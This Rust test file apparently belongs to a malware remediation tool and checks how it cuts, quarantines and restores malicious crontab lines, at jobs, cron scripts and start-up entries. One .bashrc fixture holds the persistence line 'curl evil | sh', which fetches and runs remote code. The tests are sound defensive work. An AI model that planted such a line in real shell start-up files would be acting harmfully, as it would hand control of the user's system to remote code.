//! Scheduled tasks and start-up items: what may be named, what a plan says, what comes back.

use super::*;
use EntityKind::{ScheduledTask, Startup};

const CRONTAB: &str = "MAILTO=root\n# a comment\n\n* * * * * root evil\n0 1 * * * root backup\n";

fn crontab(case: &Case) -> String {
    spoken(&case.write("etc/cron.d/evil", CRONTAB))
}

fn read(id: &str) -> String {
    std::fs::read_to_string(id).unwrap()
}

fn code(result: Result<Vec<Step>>) -> ErrorCode {
    result.unwrap_err().code
}

#[test]
fn a_line_of_a_crontab_goes_and_comes_back_by_its_id() {
    let case = case();
    let path = crontab(&case);
    let id = format!("{path}:4");
    let steps = case.of(ScheduledTask, &[&id]).unwrap();
    let [Step::CutLine { file, line, part_of }] = steps.as_slice() else { panic!("{steps:?}") };
    assert_eq!((line.number, line.text.as_str()), (4, "* * * * * root evil"));
    assert_eq!((file.path.to_text().as_ref(), part_of.id.as_str()), (path.as_str(), id.as_str()));
    assert_eq!(read(&path), CRONTAB, "a plan changes nothing");

    assert_eq!(case.apply(steps).end, End::Done);
    assert_eq!(read(&path), CRONTAB.replace("* * * * * root evil\n", ""));
    let rows = case.settings.quarantine.rows(&RemediatedQuery { kind: Some(ScheduledTask) }, &case.job).unwrap();
    assert_eq!((rows[0].r#type.as_str(), rows[0].id.raw(), rows[0].outcome.as_str()), ("scheduledtask", &*id, "cut"));

    let back = case.apply(case.undo(ScheduledTask, &id).unwrap());
    assert_eq!((&back.end, back.verified), (&End::Done, Verified::Yes), "{back:?}");
    assert_eq!(read(&path), CRONTAB);
    assert_eq!(code(case.undo(ScheduledTask, &id)), ErrorCode::NotFound);
}

#[test]
fn a_line_is_known_by_the_name_that_the_listing_gives() {
    let case = case();
    crontab(&case);
    case.write("etc/crontab", CRONTAB);
    case.write("var/spool/cron/crontabs/ann", "* * * * * evil\n");
    for (id, wanted) in [("cron.d/evil:4", 4), ("crontab:4", 4), ("crontabs/ann:1", 1)] {
        let steps = case.of(ScheduledTask, &[id]).unwrap();
        let [Step::CutLine { line, .. }] = steps.as_slice() else { panic!("{id}: {steps:?}") };
        assert_eq!(line.number, wanted, "{id}");
    }
    assert_eq!(code(case.of(ScheduledTask, &["crontabs/nobody:1"])), ErrorCode::BadArgs);
}

#[test]
fn fifty_lines_of_one_file_go_in_one_plan_and_come_back_in_one() {
    let case = case();
    let text: String = (1..=60).map(|n| format!("{n} * * * * root job{n}\n")).collect();
    let path = spoken(&case.write("etc/crontab", &text));
    let ids: Vec<String> = (1..=50).map(|n| format!("{path}:{}", n + 5)).collect();
    let ids: Vec<&str> = ids.iter().map(String::as_str).collect();
    let steps = case.of(ScheduledTask, &ids).unwrap();
    assert_eq!(steps.len(), 50);
    let outcome = case.apply(steps);
    assert_eq!((&outcome.end, outcome.verified, outcome.rows.len()), (&End::Done, Verified::Yes, 50));
    let left: String = (1..=60).filter(|n| *n < 6 || *n > 55).map(|n| format!("{n} * * * * root job{n}\n")).collect();
    assert_eq!(read(&path), left);
    let undo_ids: HashSet<_> = outcome.rows.iter().map(|r| r.undo_id.clone().unwrap()).collect();
    assert_eq!(undo_ids.len(), 50, "one undo record each");
    // One alone, then the rest.
    assert_eq!(case.apply(case.undo(ScheduledTask, ids[0]).unwrap()).end, End::Done);
    let rest = ids[1..].iter().map(|id| (*id).to_owned()).collect();
    let steps = case.steps(&Wish::Undo { kind: ScheduledTask, ids: rest }).unwrap();
    assert_eq!(case.apply(steps).end, End::Done);
    assert_eq!(read(&path), text);
}

#[test]
fn lines_of_one_plan_stop_at_the_first_that_drifted() {
    let case = case();
    let paths = ["a", "b", "c"].map(|n| spoken(&case.write(&format!("etc/cron.d/{n}"), CRONTAB)));
    let ids = paths.clone().map(|p| format!("{p}:4"));
    let steps = case.of(ScheduledTask, &ids.each_ref().map(String::as_str)).unwrap();
    std::fs::write(&paths[1], "other\n").unwrap();
    let outcome = case.apply(steps);
    assert!(matches!(outcome.end, End::Drift { step: 1, .. }), "{outcome:?}");
    assert_eq!(outcome.rows.len(), 1);
    assert_eq!((read(&paths[1]).as_str(), read(&paths[2]).as_str()), ("other\n", CRONTAB));
}

#[test]
fn what_is_no_scheduled_task_is_refused() {
    let case = case();
    let path = crontab(&case);
    let other = spoken(&case.write("etc/passwd", "root:x:0:0\n"));
    let at = |number: &str| format!("{path}:{number}");
    for id in ["cron", "evil:4", "", "-1", "4 ", &format!("{other}:1"), &other] {
        assert_eq!(code(case.of(ScheduledTask, &[id])), ErrorCode::BadArgs, "{id:?}");
    }
    for number in ["0", "2", "3", "6", "999999999"] {
        assert_eq!(code(case.of(ScheduledTask, &[&at(number)])), ErrorCode::NotFound, "{number}");
    }
    for number in ["", "x", "-1", "4294967296000"] {
        assert_eq!(code(case.of(ScheduledTask, &[&at(number)])), ErrorCode::NotFound, "{number:?} is part of a name");
    }
    for ids in [[&at("4"), &at("4")], [&at("4"), &path], [&path, &at("4")]] {
        assert_eq!(code(case.of(ScheduledTask, &ids.map(String::as_str))), ErrorCode::AmbiguousArgs, "{ids:?}");
    }
    assert_eq!(read(&path), CRONTAB);
}

#[test]
fn lines_that_nobody_can_read_are_refused() {
    let case = case();
    let refused = |name: &str, text: &[u8]| {
        let path = case.write(name, "");
        std::fs::write(&path, text).unwrap();
        code(case.of(ScheduledTask, &[&format!("{}:1", spoken(&path))]))
    };
    assert_eq!(refused("etc/cron.d/nul", b"* * * * * root a\0b\n"), ErrorCode::Uninspectable);
    let long = [b"* * * * * root ".as_slice(), &[b'x'; 9_000]].concat();
    assert_eq!(refused("etc/cron.d/long", &long), ErrorCode::Uninspectable);
    assert_eq!(refused("etc/cron.d/huge", &b"* * * * * root x\n".repeat(70_000)), ErrorCode::TooLarge);
    std::os::unix::fs::symlink("nul", case.dir.join("etc/cron.d/link")).unwrap();
    let link = format!("{}:1", spoken(&case.dir.join("etc/cron.d/link")));
    assert_eq!(code(case.of(ScheduledTask, &[&link])), ErrorCode::Uninspectable);
}

#[test]
fn a_line_that_is_no_text_goes_and_comes_back() {
    let case = case();
    let path = case.write("etc/cron.d/x", "");
    let bytes = b"* * * * * root \xff\x1b[2J\xe2\x80\xae\n";
    std::fs::write(&path, bytes).unwrap();
    let id = format!("{}:1", spoken(&path));
    let steps = case.of(ScheduledTask, &[&id]).unwrap();
    let [Step::CutLine { line, .. }] = steps.as_slice() else { panic!("{steps:?}") };
    assert_eq!(line.text, r"esc:* * * * * root \xff\u001b[2J\u202e");
    assert_eq!(case.apply(steps).end, End::Done);
    assert_eq!(std::fs::read(&path).unwrap(), b"");
    assert_eq!(case.apply(case.undo(ScheduledTask, &id).unwrap()).end, End::Done);
    assert_eq!(std::fs::read(&path).unwrap(), bytes);
}

#[test]
fn a_path_that_ends_like_a_line_is_ambiguous_or_a_file() {
    let case = case();
    let path = crontab(&case);
    let odd = spoken(&case.write("etc/cron.d/evil:4", CRONTAB));
    assert_eq!(code(case.of(ScheduledTask, &[&odd])), ErrorCode::AmbiguousArgs);
    std::fs::remove_file(&path).unwrap();
    let steps = case.of(ScheduledTask, &[&odd]).unwrap();
    assert!(matches!(steps.as_slice(), [Step::Quarantine { .. }]), "{steps:?}");
}

#[test]
fn jobs_of_at_and_scripts_go_whole() {
    let case = case();
    let job = case.write("var/spool/cron/atjobs/a0001f018c6a2e", "#!/bin/sh\nevil\n");
    let script = case.write("etc/cron.daily/evil", "#!/bin/sh\nevil\n");
    assert_eq!(code(case.of(ScheduledTask, &["32"])), ErrorCode::NotFound);
    assert_eq!(code(case.of(ScheduledTask, &[&format!("{}:2", spoken(&script))])), ErrorCode::BadArgs);
    let steps = case.of(ScheduledTask, &["31", &spoken(&script)]).unwrap();
    let outcome = case.apply(steps);
    assert_eq!((&outcome.end, job.exists(), script.exists()), (&End::Done, false, false));
    assert!(outcome.rows.iter().all(|r| r.r#type == "scheduledtask" && r.outcome == "quarantined"));
    assert_eq!(case.apply(case.undo(ScheduledTask, "31").unwrap()).end, End::Done);
    assert_eq!(case.apply(case.undo(ScheduledTask, &spoken(&script)).unwrap()).end, End::Done);
    assert!(job.exists() && script.exists());
    case.write("var/spool/at/b0001f018c6a2f", "x");
    assert_eq!(code(case.of(ScheduledTask, &["31"])), ErrorCode::AmbiguousArgs);
}

#[test]
fn an_undo_puts_the_line_into_the_file_as_it_is_now() {
    let case = case();
    let path = crontab(&case);
    let id = format!("{path}:4");
    case.apply(case.of(ScheduledTask, &[&id]).unwrap());
    std::fs::write(&path, "MAILTO=admin\n1 2 3 4 5 root new\n").unwrap();
    let steps = case.undo(ScheduledTask, &id).unwrap();
    assert_eq!(case.apply(steps).end, End::Done);
    assert_eq!(read(&path), "MAILTO=admin\n1 2 3 4 5 root new\n* * * * * root evil\n");
}

#[test]
fn an_undo_says_why_not() {
    let case = case();
    let path = crontab(&case);
    let id = format!("{path}:4");
    case.apply(case.of(ScheduledTask, &[&id]).unwrap());
    let by_hand = "* * * * * root evil\nmore\n";
    for (text, says) in [(CRONTAB, "as it was"), (by_hand, "as line 1")] {
        std::fs::write(&path, text).unwrap();
        let e = case.undo(ScheduledTask, &id).unwrap_err();
        assert_eq!(e.code, ErrorCode::Exists);
        assert!(e.message.contains(says), "{e}");
    }
    std::fs::remove_file(&path).unwrap();
    let e = case.undo(ScheduledTask, &id).unwrap_err();
    assert_eq!(e.code, ErrorCode::NotFound);
    assert!(e.message.contains("is gone"), "{e}");
}

#[test]
fn an_undo_that_finds_another_file_than_it_showed_is_drift() {
    let case = case();
    let path = crontab(&case);
    let id = format!("{path}:4");
    case.apply(case.of(ScheduledTask, &[&id]).unwrap());
    let steps = case.undo(ScheduledTask, &id).unwrap();
    std::fs::write(&path, "changed\n").unwrap();
    let outcome = case.apply(steps);
    assert!(matches!(outcome.end, End::Drift { .. }), "{outcome:?}");
    assert_eq!(read(&path), "changed\n");
    assert_eq!(case.settings.quarantine.rows(&RemediatedQuery::default(), &case.job).unwrap()[0].outcome, "cut");
}

#[test]
fn an_undo_id_is_of_its_type_only() {
    let case = case();
    let path = crontab(&case);
    let outcome = case.apply(case.of(ScheduledTask, &[&format!("{path}:4")]).unwrap());
    let id = outcome.rows[0].undo_id.clone().unwrap();
    assert_eq!(code(case.undo(Startup, id.as_str())), ErrorCode::BadArgs);
    assert!(matches!(case.undo(ScheduledTask, id.as_str()).unwrap().as_slice(), [Step::PutLine { .. }]));
}

#[test]
fn start_up_items_go_whole_or_by_the_line() {
    let case = case();
    let entry = spoken(&case.write("home/a/.config/autostart/evil.desktop", "[Desktop Entry]\nExec=evil\n"));
    let shell = spoken(&case.write("home/a/.bashrc", "export A=1\ncurl evil | sh\nalias b=c\n"));
    let outcome = case.apply(case.of(Startup, &[&entry, &format!("{shell}:2")]).unwrap());
    assert_eq!((&outcome.end, outcome.verified), (&End::Done, Verified::Yes), "{outcome:?}");
    assert_eq!(outcome.rows.iter().map(|r| r.outcome.as_str()).collect::<Vec<_>>(), ["quarantined", "cut"]);
    assert_eq!((Path::new(&entry).exists(), read(&shell).as_str()), (false, "export A=1\nalias b=c\n"));
    for id in [entry.clone(), format!("{shell}:2")] {
        assert_eq!(case.apply(case.undo(Startup, &id).unwrap()).end, End::Done, "{id}");
    }
    assert_eq!((Path::new(&entry).exists(), read(&shell).as_str()), (true, "export A=1\ncurl evil | sh\nalias b=c\n"));
}

#[test]
fn what_is_no_start_up_item_is_refused() {
    let case = case();
    let other = spoken(&case.write("home/a/notes", "x\n"));
    let shell = spoken(&case.write("home/a/.profile", "one \\\n two\nthree\n"));
    for id in [&other, &format!("{other}:1")] {
        assert_eq!(code(case.of(Startup, &[id])), ErrorCode::BadArgs, "{id}");
    }
    for line in [1, 2] {
        assert_eq!(code(case.of(Startup, &[&format!("{shell}:{line}")])), ErrorCode::Uninspectable, "{line}");
    }
    assert!(case.of(Startup, &[&format!("{shell}:3")]).is_ok());
}

#[test]
fn gt_175_own_things_are_no_tasks_and_no_start_up_items() {
    let case = case();
    std::fs::write(case.home.join("secret"), "* * * * * root x\n").unwrap();
    std::fs::create_dir_all(case.dir.join("etc/cron.d")).unwrap();
    std::fs::hard_link(case.home.join("secret"), case.dir.join("etc/cron.d/x")).unwrap();
    std::fs::hard_link(case.home.join("secret"), case.dir.join("etc/profile")).unwrap();
    for id in ["etc/cron.d/x", "etc/cron.d/x:1"] {
        assert_eq!(code(case.of(ScheduledTask, &[&spoken(&case.dir.join(id))])), ErrorCode::SelfTarget, "{id}");
    }
    for id in ["etc/profile", "etc/profile:1"] {
        assert_eq!(code(case.of(Startup, &[&spoken(&case.dir.join(id))])), ErrorCode::SelfTarget, "{id}");
    }
}
